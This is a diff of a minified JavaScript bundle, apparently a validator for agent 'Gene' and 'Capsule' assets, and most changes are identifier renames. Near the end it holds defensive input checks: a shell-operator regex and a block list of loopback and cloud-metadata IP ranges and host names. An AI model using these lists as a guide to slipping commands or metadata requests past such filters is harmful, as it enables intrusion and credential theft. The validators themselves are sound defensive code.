 value:r}=t;if(r.asset_id===void 0||Pn(t)!==void 0)return[];const i=ls(t.value),o=otherHashForm(t),a=seedRelease(t),u=o===
 "created"||a!==void 0?"notice":hasOnlyLearned(t,s)?"warning":"error",l=e==="author"?"error":u,d={...placeOf(t,["asset_id"]),
-severity:l},B={...WB(t,e),expected:i,...o&&{form:o},...a&&{seed:a}},f=n&&l!=="notice"&&e==="fix"?n0(t,i):void 0;return[{
-...finding("content-hash-mismatch",B,d),...f&&{edit:f}}]}function WB({type:t,id:e},n){return{type:t,id:e,fixable:n==="fi\
+severity:l},B={...UB(t,e),expected:i,...o&&{form:o},...a&&{seed:a}},f=n&&l!=="notice"&&e==="fix"?e0(t,i):void 0;return[{
+...finding("content-hash-mismatch",B,d),...f&&{edit:f}}]}function UB({type:t,id:e},n){return{type:t,id:e,fixable:n==="fi\
 x",...n==="author"&&{foreign:!0}}}function cz(t){const{asset_id:e}=t.value;return typeof e=="string"&&Pn(t)!==void 0?e:ls(
-t.value)}function n0({type:t,path:e,pointer:n,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!="string"||Object.values(
-o).some(qB))&&Pn({type:t,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...n,"asset_id"]),old:i,new:[
-r],fix:!0}}function qB(t){return typeof t!="object"||t===null?!1:Object.hasOwn(t,"asset_id")||Object.values(t).some(qB)}
-function ls(t){return dr(t)??""}const s0=null;function r0(t){const{outcome:e}=t;if(!an(e))return t;const{notes:n,details:s,
-...r}=e;return{...t,outcome:r}}function uz(t){const{outcome:e}=t.value;return Pn(t)!=="hub"||!isJsonObject(e)?[]:s0.filter(
-n=>Object.hasOwn(e,n)).map(n=>`outcome.${n}`)}var VB=Te(916);const i0=80,o0=4;function Gr(t,e){const n=t.slice(0,i0),s=e.
-find(i=>i.includes(t));if(s!==void 0&&t.length>=o0)return s;const r=e.length>0?(0,VB.kp)(n,[...e]):void 0;if(r!==void 0)
-return(0,VB.Io)(n,r)<=n.length/2?r:void 0}function lz(t){return schemaDifferences(t.type,t.value).flatMap(e=>c0(t.type,e)).
-map(e=>YB(t,e,"warning"))}function a0(t){const e=d0(t)?"warning":"error";return AB(t.type,t.value).map(n=>YB(t,n,e))}function YB(t,e,n){
+t.value)}function e0({type:t,path:e,pointer:n,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!="string"||Object.values(
+o).some(JB))&&Pn({type:t,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...n,"asset_id"]),old:i,new:[
+r],fix:!0}}function JB(t){return typeof t!="object"||t===null?!1:Object.hasOwn(t,"asset_id")||Object.values(t).some(JB)}
+function ls(t){return dr(t)??""}const t0=null;function n0(t){const{outcome:e}=t;if(!cn(e))return t;const{notes:n,details:s,
+...r}=e;return{...t,outcome:r}}function uz(t){const{outcome:e}=t.value;return Pn(t)!=="hub"||!isJsonObject(e)?[]:t0.filter(
+n=>Object.hasOwn(e,n)).map(n=>`outcome.${n}`)}var ZB=Te(916);const s0=80,r0=4;function Gr(t,e){const n=t.slice(0,s0),s=e.
+find(i=>i.includes(t));if(s!==void 0&&t.length>=r0)return s;const r=e.length>0?(0,ZB.kp)(n,[...e]):void 0;if(r!==void 0)
+return(0,ZB.Io)(n,r)<=n.length/2?r:void 0}function lz(t){return schemaDifferences(t.type,t.value).flatMap(e=>o0(t.type,e)).
+map(e=>KB(t,e,"warning"))}function i0(t){const e=u0(t)?"warning":"error";return vB(t.type,t.value).map(n=>KB(t,n,e))}function KB(t,e,n){
 const{type:s,id:r}=t,{pointer:i,more:o}=e,a={...zo(t,i),severity:n},c=(u,l,d,B)=>(0,Oe.gk)("schema-field",{type:s,id:r,field:u,
 fault:l,where:d,fix:B},a);switch(e.kind){case"missing":{const{fields:u}=e,d=`Add what is missing as the schema of the pr\
 otocol describes it${u.includes("asset_id")?"; `gene-gate fix --identity --write` adds `asset_id`":""}`;return c(u.join(
-"`, `"),"is missing",QB(i,o),d)}case"unknown":{const u=QB(i.slice(0,-1),o),{field:l,absent:d}=e,B=Gr(l,d),f=B===void 0?"":
+"`, `"),"is missing",WB(i,o),d)}case"unknown":{const u=WB(i.slice(0,-1),o),{field:l,absent:d}=e,B=Gr(l,d),f=B===void 0?"":
 `If you meant \`${B}\`, rename it. Otherwise, `,h=`${f}${f?"remove":"Remove"} \`${l}\` or store it outside the asset`;return c(
-l,"is unknown",u,h)}case"invalid":{const{expected:u}=e,l=`${e.found}${o===0?"":` (and in ${XB(o)})`}`,d=i.join("."),B=`m\
-ust be ${u}, but it is ${l}`;return c(d,B,"",`Change \`${d}\` to ${u}`)}}}function XB(t){return t===1?"1 similar place":
-`${t} similar places`}function QB(t,e){return t.length===0?"":` in \`${t.join(".")}\`${e===0?"":` and ${XB(e)}`}`}function c0(t,e){
-const{pointer:n}=e;switch(e.kind){case"missing":{const s=e.fields.filter(r=>!u0[t].has([...n,r].join(".")));return s.length===
-0?[]:[{...e,fields:s}]}case"unknown":return[e];case"invalid":return l0(t,n,e.keyword)?[]:[e]}}const u0={Gene:new Set(["t\
+l,"is unknown",u,h)}case"invalid":{const{expected:u}=e,l=`${e.found}${o===0?"":` (and in ${qB(o)})`}`,d=i.join("."),B=`m\
+ust be ${u}, but it is ${l}`;return c(d,B,"",`Change \`${d}\` to ${u}`)}}}function qB(t){return t===1?"1 similar place":
+`${t} similar places`}function WB(t,e){return t.length===0?"":` in \`${t.join(".")}\`${e===0?"":` and ${qB(e)}`}`}function o0(t,e){
+const{pointer:n}=e;switch(e.kind){case"missing":{const s=e.fields.filter(r=>!a0[t].has([...n,r].join(".")));return s.length===
+0?[]:[{...e,fields:s}]}case"unknown":return[e];case"invalid":return c0(t,n,e.keyword)?[]:[e]}}const a0={Gene:new Set(["t\
 ype","id","schema_version","asset_id","validation","constraints","constraints.max_files","constraints.forbidden_paths"]),
 Capsule:new Set(["type","id","schema_version","asset_id"]),EvolutionEvent:new Set(["type","id","schema_version","asset_i\
-d"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"])};function l0(t,[e,...n],s){if(e==="type"||e===
+d"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"])};function c0(t,[e,...n],s){if(e==="type"||e===
 "id"||e==="asset_id")return!0;if(t!=="Gene")return!1;const r=s==="minItems"&&n.length>0;return e==="validation"||e==="co\
-nstraints"&&!r}function d0({value:t}){const{schema_version:e}=t,n=typeof e=="string"?/^1\.(\d+)\.\d+$/.exec(e)?.[1]:void 0;
-return n!==void 0&&Number(n)<Number(Iu.split(".")[1])}function Hr(t,e){const n=new Map;for(const s of t){const r=e(s),i=n.
-get(r);i?i.push(s):n.set(r,[s])}return n}function B0(t,e){const n=C0(t,e),s=Hr(t,({value:{capsule_id:r}})=>r);return r=>f0(
-r,s.get(r.id)??[],n,e)}function f0({id:t,value:{gene:e}},n,s,r){const i=[],o=[],a={files:0,lines:0};let c;const{successes:u,
-failure:l}=ef(t,n);for(const d of u){const{value:B}=d,f=s.get(d)??w0(B,r)??(b0(B,e,r)?void 0:g0);f===void 0?(o.push(d),_0(
-a,B)||(c??=qo(B))):i.push({event:qo(B),why:f})}return{count:tf(o),uncounted:i,ended:l!==void 0,...l&&u.length===0&&{failed:qo(
-l.value)},radius:a,...c!==void 0&&{unmeasured:c}}}function ef(t,e){const n=e.filter(({value:r})=>r.type==="EvolutionEven\
-t"&&r.capsule_id===t).reverse(),s=n.findIndex(({value:r})=>!h0(r));return s<0?{successes:n}:{successes:n.slice(0,s),failure:n[s]}}
-function h0({outcome:t}){return an(t)&&t.status==="success"}function tf(t){const e=t.map(({value:n})=>n.id).filter(n=>typeof n==
-"string");return t.length-e.length+new Set(e).size}function p0(t,e){const{successes:n,failure:s}=ef(t,e);return{count:tf(
-n),ended:s!==void 0}}function m0({changes:t,present:e,unread:n}){const s=n.at(-1),r=new Set(t.map(({asset:i})=>i));return e.
-filter(({type:i,path:o})=>i==="EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const g0="\
-it does not name the gene of the Capsule";function C0(t,e){const n=new Map,s=new Map,r=new Set;for(const i of t){const o=y0(
+nstraints"&&!r}function u0({value:t}){const{schema_version:e}=t,n=typeof e=="string"?/^1\.(\d+)\.\d+$/.exec(e)?.[1]:void 0;
+return n!==void 0&&Number(n)<Number(Ou.split(".")[1])}function Hr(t,e){const n=new Map;for(const s of t){const r=e(s),i=n.
+get(r);i?i.push(s):n.set(r,[s])}return n}function l0(t,e){const n=m0(t,e),s=Hr(t,({value:{capsule_id:r}})=>r);return r=>d0(
+r,s.get(r.id)??[],n,e)}function d0({id:t,value:{gene:e}},n,s,r){const i=[],o=[],a={files:0,lines:0};let c;const{successes:u,
+failure:l}=VB(t,n);for(const d of u){const{value:B}=d,f=s.get(d)??C0(B,r)??(y0(B,e,r)?void 0:p0);f===void 0?(o.push(d),w0(
+a,B)||(c??=Wo(B))):i.push({event:Wo(B),why:f})}return{count:YB(o),uncounted:i,ended:l!==void 0,...l&&u.length===0&&{failed:Wo(
+l.value)},radius:a,...c!==void 0&&{unmeasured:c}}}function VB(t,e){const n=e.filter(({value:r})=>r.type==="EvolutionEven\
+t"&&r.capsule_id===t).reverse(),s=n.findIndex(({value:r})=>!B0(r));return s<0?{successes:n}:{successes:n.slice(0,s),failure:n[s]}}
+function B0({outcome:t}){return cn(t)&&t.status==="success"}function YB(t){const e=t.map(({value:n})=>n.id).filter(n=>typeof n==
+"string");return t.length-e.length+new Set(e).size}function f0(t,e){const{successes:n,failure:s}=VB(t,e);return{count:YB(
+n),ended:s!==void 0}}function h0({changes:t,present:e,unread:n}){const s=n.at(-1),r=new Set(t.map(({asset:i})=>i));return e.
+filter(({type:i,path:o})=>i==="EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const p0="\
+it does not name the gene of the Capsule";function m0(t,e){const n=new Map,s=new Map,r=new Set;for(const i of t){const o=g0(
 i,s,e&&r.has(i.log));o!==void 0&&n.set(i,o),r.add(i.log);const{id:a}=i.value;typeof a=="string"&&!s.has(a)&&s.set(a,i)}return n}
-function y0({value:t,isNew:e},n,s){const{id:r,parent:i}=t;if(e)return"the change that is judged adds or edits it";const o=typeof r==
+function g0({value:t,isNew:e},n,s){const{id:r,parent:i}=t;if(e)return"the change that is judged adds or edits it";const o=typeof r==
 "string"?n.get(r):void 0;return o!==void 0?ss(o.value)===ss(t)?void 0:"an earlier event with other content has its id":typeof i==
-"string"&&i!==""?n.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function w0(t,e){const{
+"string"&&i!==""?n.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function C0(t,e){const{
 id:n,asset_id:s}=t;if(s===void 0)return e?"it has no hash":void 0;if(Pn({type:"EvolutionEvent",value:t})===void 0)return"\
-its hash does not match its content";const r=typeof n=="string"&&n.trim()!=="";return e&&!r?"it has no id":void 0}function b0({
-genes_used:t},e,n){return typeof e!="string"||e===""||!Array.isArray(t)?!n:t.includes(e)}function _0(t,{blast_radius:e}){
-if(e===void 0)return!0;if(!an(e))return!1;const{files:n,lines:s}=e;return!nf(n)||!nf(s)?!1:(t.files=Math.max(t.files,n),
-t.lines=Math.max(t.lines,s),!0)}function nf(t){return typeof t=="number"&&Number.isSafeInteger(t)&&t>=0}function qo({id:t}){
-return typeof t=="string"?t:"without an id"}function dz({assets:t}){const e=groupBy(m0(t),({value:n})=>n.capsule_id);return t.
+its hash does not match its content";const r=typeof n=="string"&&n.trim()!=="";return e&&!r?"it has no id":void 0}function y0({
+genes_used:t},e,n){return typeof e!="string"||e===""||!Array.isArray(t)?!n:t.includes(e)}function w0(t,{blast_radius:e}){
+if(e===void 0)return!0;if(!cn(e))return!1;const{files:n,lines:s}=e;return!XB(n)||!XB(s)?!1:(t.files=Math.max(t.files,n),
+t.lines=Math.max(t.lines,s),!0)}function XB(t){return typeof t=="number"&&Number.isSafeInteger(t)&&t>=0}function Wo({id:t}){
+return typeof t=="string"?t:"without an id"}function dz({assets:t}){const e=groupBy(h0(t),({value:n})=>n.capsule_id);return t.
 changes.flatMap(({kind:n,asset:s})=>{const{success_streak:r}=s.value;if(n==="removed"||s.type!=="Capsule"||typeof r!="nu\
-mber")return[];const{count:i,ended:o}=p0(s.id,e.get(s.id)??[]);if(r<=i)return[];const a=placeOf(s,["success_streak"]),c=t.
+mber")return[];const{count:i,ended:o}=f0(s.id,e.get(s.id)??[]);if(r<=i)return[];const a=placeOf(s,["success_streak"]),c=t.
 unread.at(-1);if(c!==void 0&&!o)return[notChecked(`the success streak of the Capsule \`${s.id}\``,c,a)];const u={type:s.
 type,id:s.id,claim:`claims a success streak of ${r}`,shown:`the events show ${i}`,fix:"Append the events of its cycles, \
 or correct `success_streak`"};return[finding("claim-differs",u,a)]})}const Bz={level:"none",description:"Nothing was run\
-."},fz={files:0,lines:0,exempt_files:0,exempt_lines:0};function Vo(t){const e=i=>({constraints:k0,problems:[{...i,pointer:[
-"constraints"]}]});if(t===void 0)return e({kind:"missing"});if(!an(t))return e({kind:"malformed",detail:"an object"});const n=[],
-s=v0(t.max_files,n);return{constraints:{maxFiles:s??Mo,isDefaultLimit:s===void 0,forbiddenPaths:D0(t.forbidden_paths,n)},
-problems:n}}function E0(t,e){if(t===void 0)return e;const{maxFiles:n,isDefaultLimit:s}=t.maxFiles<e.maxFiles?t:e;return{
-maxFiles:n,isDefaultLimit:s,forbiddenPaths:[...new Set([...t.forbiddenPaths,...e.forbiddenPaths])]}}const k0={maxFiles:Mo,
-isDefaultLimit:!0,forbiddenPaths:[]};function v0(t,e){const n=["constraints","max_files"];if(t===void 0)e.push({kind:"mi\
+."},fz={files:0,lines:0,exempt_files:0,exempt_lines:0};function Vo(t){const e=i=>({constraints:_0,problems:[{...i,pointer:[
+"constraints"]}]});if(t===void 0)return e({kind:"missing"});if(!cn(t))return e({kind:"malformed",detail:"an object"});const n=[],
+s=E0(t.max_files,n);return{constraints:{maxFiles:s??Mo,isDefaultLimit:s===void 0,forbiddenPaths:k0(t.forbidden_paths,n)},
+problems:n}}function b0(t,e){if(t===void 0)return e;const{maxFiles:n,isDefaultLimit:s}=t.maxFiles<e.maxFiles?t:e;return{
+maxFiles:n,isDefaultLimit:s,forbiddenPaths:[...new Set([...t.forbiddenPaths,...e.forbiddenPaths])]}}const _0={maxFiles:Mo,
+isDefaultLimit:!0,forbiddenPaths:[]};function E0(t,e){const n=["constraints","max_files"];if(t===void 0)e.push({kind:"mi\
 ssing",pointer:n});else{if(Number.isSafeInteger(t)&&Number(t)>0)return Number(t);e.push({kind:"malformed",pointer:n,detail:"\
-an integer greater than 0"})}}function D0(t,e){const n=["constraints","forbidden_paths"];if(t===void 0)return e.push({kind:"\
+an integer greater than 0"})}}function k0(t,e){const n=["constraints","forbidden_paths"];if(t===void 0)return e.push({kind:"\
 missing",pointer:n}),[];if(!Array.isArray(t))return e.push({kind:"malformed",pointer:n,detail:"a list of paths"}),[];const s=new Set;
 for(const[r,i]of t.entries()){const o=typeof i=="string"?xe(i):void 0;if(typeof i!="string"||!o){e.push({kind:"malformed",
-pointer:[...n,r],detail:"a path below the root of the repository"});continue}nv(i)&&e.push({kind:"pattern",pointer:[...n,
+pointer:[...n,r],detail:"a path below the root of the repository"});continue}ev(i)&&e.push({kind:"pattern",pointer:[...n,
 r],detail:i}),s.add(o)}return[...s]}function hz(t,e){const{asset:n,change:s,binds:r}=t,{constraints:i}=Vo(n.value.constraints),
-o=s?.before&&Vo(s.before.value.constraints).constraints,a=E0(o,i),{maxFiles:c,isDefaultLimit:u}=a,l=x0(e.policy),d=r&&isChange(
+o=s?.before&&Vo(s.before.value.constraints).constraints,a=b0(o,i),{maxFiles:c,isDefaultLimit:u}=a,l=v0(e.policy),d=r&&isChange(
 e)?e.radius:NOTHING_TOUCHED,B=cappedSize(d,e.policy.blast_radius.counting),f=gradeFiles(d.files,c,B,l),h=f==="hard_cap_b\
 reach"?B:d,m=gradeWords(f,h,c,l);return{base:o,head:i,constraints:a,blastRadius:{...d,max_files:c,...u&&{default_limit:!0},
-severity:f,message:m}}}function x0({blast_radius:t}){const{hard_cap_files:e,hard_cap_lines:n}=t;return{files:e,lines:n}}
-const ie=Et(import.meta.url)("node:path");var zr=Te(698);const O0=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function A0(t){
-return!O0.test(t)}function S0(t){const e=new Map;for(const i of t){if(e.has(i.path))throw Xo(i.path,"occurs twice");if(!A0(
+severity:f,message:m}}}function v0({blast_radius:t}){const{hard_cap_files:e,hard_cap_lines:n}=t;return{files:e,lines:n}}
+const ie=Et(import.meta.url)("node:path");var zr=Te(698);const D0=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function x0(t){
+return!D0.test(t)}function O0(t){const e=new Map;for(const i of t){if(e.has(i.path))throw Xo(i.path,"occurs twice");if(!x0(
 i.path))throw Xo(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])for(let a=Qo(
 i);a!=="";a=Qo(a)){const c=e.get(a)?.kind;if(c==="directory")break;if(c!==void 0)throw Xo(i,`is below the ${c} ${a}`);e.
-set(a,{path:a,kind:"directory",tracked:o})}const n=[...e.values()].sort(sf);let s;e.set("",{path:"",kind:"directory",tracked:!0});
+set(a,{path:a,kind:"directory",tracked:o})}const n=[...e.values()].sort(QB);let s;e.set("",{path:"",kind:"directory",tracked:!0});
 const r=n.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=Hr(n,({path:o})=>Qo(o)),
-s.get(i)??[]),files:()=>r}}function sf(t,e){return t.path<e.path?-1:t.path>e.path?1:0}function Yo(t){const e=[];for(let n=t.
-indexOf("/");n>=0;n=t.indexOf("/",n+1))e.push(t.slice(0,n));return e}function T0(t,e){return new zr.ue("file_unreadable",
+s.get(i)??[]),files:()=>r}}function QB(t,e){return t.path<e.path?-1:t.path>e.path?1:0}function Yo(t){const e=[];for(let n=t.
+indexOf("/");n>=0;n=t.indexOf("/",n+1))e.push(t.slice(0,n));return e}function A0(t,e){return new zr.ue("file_unreadable",
 `${e} is not a regular file in ${t}`,"Check the spelling of the path. It must be a file of its own, not a directory or a\
  symlink.")}function pz(t,e,n,s){return new GateError("file_unreadable",`${e} in ${t} has ${n} bytes; the limit is ${s}`,
 "Split the file, or move large data out of it.")}function Xo(t,e){return new zr.ue("file_unreadable",`The tree contains \
 the path ${JSON.stringify(t)}, which ${e}`,"Recreate the commit with an unmodified git.")}function Qo(t){return t.slice(
-0,Math.max(t.lastIndexOf("/"),0))}const I0=Vt(t=>Hr(t.files(),({path:e})=>ie.posix.basename(e)));function Ur(t,e){return I0(
-t).get(e)??[]}function Vt(t){const e=new WeakMap;return n=>{const s=n.original??n,{answer:r}=e.get(s)??{answer:t(s)};return e.
-set(s,{answer:r}),r}}function zs(t){const e=Vt(()=>new Map);return(n,s)=>{const r=e(n),i=r.get(s)??t(n,s);return r.set(s,
-i),i}}function rf(t,{policy:e,tree:n,base:s}){const[r]=e.stores.map(({path:a,root:c})=>({path:xe(a)??"",root:xe(c)??""})).
+0,Math.max(t.lastIndexOf("/"),0))}const S0=Yt(t=>Hr(t.files(),({path:e})=>ie.posix.basename(e)));function Ur(t,e){return S0(
+t).get(e)??[]}function Yt(t){const e=new WeakMap;return n=>{const s=n.original??n,{answer:r}=e.get(s)??{answer:t(s)};return e.
+set(s,{answer:r}),r}}function zs(t){const e=Yt(()=>new Map);return(n,s)=>{const r=e(n),i=r.get(s)??t(n,s);return r.set(s,
+i),i}}function ef(t,{policy:e,tree:n,base:s}){const[r]=e.stores.map(({path:a,root:c})=>({path:xe(a)??"",root:xe(c)??""})).
 filter(({path:a})=>vt(t,a)).sort((a,c)=>c.path.length-a.path.length),i=ie.posix.dirname(t).replace(/^\.$/,"");if(r!==void 0)
-return{path:i,root:r.root,named:!0};const o=[s,n].find(a=>a?.stat(i)?.kind==="directory");return{path:i,root:(o&&$0(o,i)[0])??
-""}}function mz(t,e){const n=new Set([...t].map(r=>rf(r,e).root)),[s=""]=n;return n.size===1?s:""}const of=Vt(()=>new Map);
-function $0(t,e){const n=of(t).get(e)??R0(t,e);return of(t).set(e,n),n}function R0(t,e){return[...new Set([e,...Yo(e).reverse(),
+return{path:i,root:r.root,named:!0};const o=[s,n].find(a=>a?.stat(i)?.kind==="directory");return{path:i,root:(o&&T0(o,i)[0])??
+""}}function mz(t,e){const n=new Set([...t].map(r=>ef(r,e).root)),[s=""]=n;return n.size===1?s:""}const tf=Yt(()=>new Map);
+function T0(t,e){const n=tf(t).get(e)??I0(t,e);return tf(t).set(e,n),n}function I0(t,e){return[...new Set([e,...Yo(e).reverse(),
 ""])].filter(s=>t.stat(ie.posix.join(s,"package.json"))!==void 0)}const ea=Et(import.meta.url)("node:net");function ta(t){
-return String.raw`(?:[^${t}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const N0=(()=>{const t=String.raw`(?:\d+|\$|/${ta("/")}/)`,e=s=>String.
+return String.raw`(?:[^${t}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const $0=(()=>{const t=String.raw`(?:\d+|\$|/${ta("/")}/)`,e=s=>String.
 raw`s[${s}]${ta(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,n=`(?:${t}(?:,${t})?!? ?)?(?:[pdq=]|${["/","|",",","#"].
-map(e).join("|")})`;return new RegExp(`^${n}(?: ?; ?${n})*$`)})(),F0=(()=>{const t=String.raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,
+map(e).join("|")})`;return new RegExp(`^${n}(?: ?; ?${n})*$`)})(),R0=(()=>{const t=String.raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,
 e=`!? ?(?:/${ta("/")}/|${t}(?: ?(?:[<>=!]=|[<>]) ?${t})?)`,n=`${e}(?: (?:&&|[|][|]) ${e})*`,s=`[{] ?print(?: ${t}(?:[, ]\
 +${t})*)? ?[}]`;return new RegExp(`^ ?(?:${n}|(?:${n} ?)?${s}) ?$`)})(),ds={text:()=>{},choice:()=>{},node:()=>{},import:()=>{},
 module:()=>{},path:vn,config:vn,output:vn,tests:vn,code:vn,preload:vn,input:t=>t==="-"?"is standard input":vn(t),argument:()=>{},
-script:t=>t.startsWith("-")?"is a flag":lf(t),archive:na,destination:na,source:na,page:Jr(/^(?:\[|\w[\w.+:@-]*)$/,"is no\
-t the name of a manual page"),host:t=>ff(t)?void 0:"is not a public address or host name",domain:t=>Bf(t)?void 0:"is not\
- a domain name",url:t=>G0(t)?void 0:"is not a plain http or https URL",count:Jr(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a numb\
-er"),package:L0,pattern:()=>{},awk:Jr(F0,"is not a program that only selects and prints"),sed:Jr(N0,"is not a script tha\
-t only selects and replaces")},af=new Set(["path","config","output","tests","code","preload","input","argument","script",
-"archive","destination","source"]),cf=/[;&|<>`\r\n\0]|\$\(/;function Jr(t,e){return n=>t.test(n)?void 0:e}function uf(t){
-return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(t)}function lf(t){return t===""?"is empty":void 0}function vn(t){return uf(t)?
-"is a URL":lf(t)}function na(t){return t.startsWith("-")?"begins with a dash":!uf(t)&&/^[^/]*:/.test(t)&&!/^[A-Za-z]:[\\/]/.
-test(t)?"names another host":cf.test(t)?"contains a shell operator":/[*?[\]{}]/.test(t)?"contains a wildcard":/^~|\$/.test(
-t)?"is expanded by a shell":vn(t)}function L0(t){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
-test(t)||t.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(t)?"is a file":void 0}const P0={
-ipv4:df("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:df(
-"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function df(t,e){const n=new ea.
-BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");n.addSubnet(r,Number(i),t)}return n}const j0=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
-M0=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function Bf(t){const e=t.replace(/\.$/,"");if(e===""||e.length>253||j0.test(e))return!1;
-const n=e.split(".");return n.every(s=>M0.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(n.at(-1)??"")}function ff(t){if((0,ea.
-isIP)(t)===0)return Bf(t);const e=(0,ea.isIPv4)(t)?"ipv4":"ipv6";return!t.includes("%")&&!P0[e].check(t,e)}function G0(t){
+script:t=>t.startsWith("-")?"is a flag":of(t),archive:na,destination:na,source:na,page:Jr(/^(?:\[|\w[\w.+:@-]*)$/,"is no\
+t the name of a manual page"),host:t=>uf(t)?void 0:"is not a public address or host name",domain:t=>cf(t)?void 0:"is not\
+ a domain name",url:t=>j0(t)?void 0:"is not a plain http or https URL",count:Jr(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a numb\
+er"),package:N0,pattern:()=>{},awk:Jr(R0,"is not a program that only selects and prints"),sed:Jr($0,"is not a script tha\
+t only selects and replaces")},nf=new Set(["path","config","output","tests","code","preload","input","argument","script",
+"archive","destination","source"]),sf=/[;&|<>`\r\n\0]|\$\(/;function Jr(t,e){return n=>t.test(n)?void 0:e}function rf(t){
+return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(t)}function of(t){return t===""?"is empty":void 0}function vn(t){return rf(t)?
+"is a URL":of(t)}function na(t){return t.startsWith("-")?"begins with a dash":!rf(t)&&/^[^/]*:/.test(t)&&!/^[A-Za-z]:[\\/]/.
+test(t)?"names another host":sf.test(t)?"contains a shell operator":/[*?[\]{}]/.test(t)?"contains a wildcard":/^~|\$/.test(
+t)?"is expanded by a shell":vn(t)}function N0(t){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
+test(t)||t.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(t)?"is a file":void 0}const F0={
+ipv4:af("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:af(
+"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function af(t,e){const n=new ea.
+BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");n.addSubnet(r,Number(i),t)}return n}const L0=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
+P0=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function cf(t){const e=t.replace(/\.$/,"");if(e===""||e.length>253||L0.test(e))return!1;
+const n=e.split(".");return n.every(s=>P0.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(n.at(-1)??"")}function uf(t){if((0,ea.
+isIP)(t)===0)return cf(t);const e=(0,ea.isIPv4)(t)?"ipv4":"ipv6";return!t.includes("%")&&!F0[e].check(t,e)}function j0(t){
 const n=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.exec(t)?.[1];return n!==
-void 0&&URL.canParse(t)&&ff(n.replace(/^\[|\]$/g,""))}function hf(t){return pf(t,e=>{const n=/^\{(.*)\}$/.exec(e)?.[1];return n===
-void 0&&!/[{}]/.test(e)?e:mf(n??"")})}function sa(t){return pf(t,mf)}function pf(t,e){const n=t.split(" ").filter(i=>i!==
-""),s=n.flatMap(i=>e(i)??[]);return s.every((i,o)=>H0(i)||o===n.length-1)&&s.length===n.length?s:void 0}function mf(t){const[
+void 0&&URL.canParse(t)&&uf(n.replace(/^\[|\]$/g,""))}function lf(t){return df(t,e=>{const n=/^\{(.*)\}$/.exec(e)?.[1];return n===
+void 0&&!/[{}]/.test(e)?e:Bf(n??"")})}function sa(t){return df(t,Bf)}function df(t,e){const n=t.split(" ").filter(i=>i!==
+""),s=n.flatMap(i=>e(i)??[]);return s.every((i,o)=>M0(i)||o===n.length-1)&&s.length===n.length?s:void 0}function Bf(t){const[
 ,e="",n,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(t)??[];if(Object.hasOwn(ds,e))return{kind:e,optional:r===
-"?"||r==="*",many:r==="*"||r==="...",...n!==void 0&&{range:[Number(n),Number(s)]}}}function H0(t){return typeof t!="obje\
-ct"||!(t.optional||t.many)}function gf(t){const e=t.at(-1);return typeof e!="object"?{min:t.length,max:t.length}:{min:t.
-length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:t.length}}function z0(t,e,n){const{min:s,max:r}=gf(t);if(e.length<
+"?"||r==="*",many:r==="*"||r==="...",...n!==void 0&&{range:[Number(n),Number(s)]}}}function M0(t){return typeof t!="obje\
+ct"||!(t.optional||t.many)}function ff(t){const e=t.at(-1);return typeof e!="object"?{min:t.length,max:t.length}:{min:t.
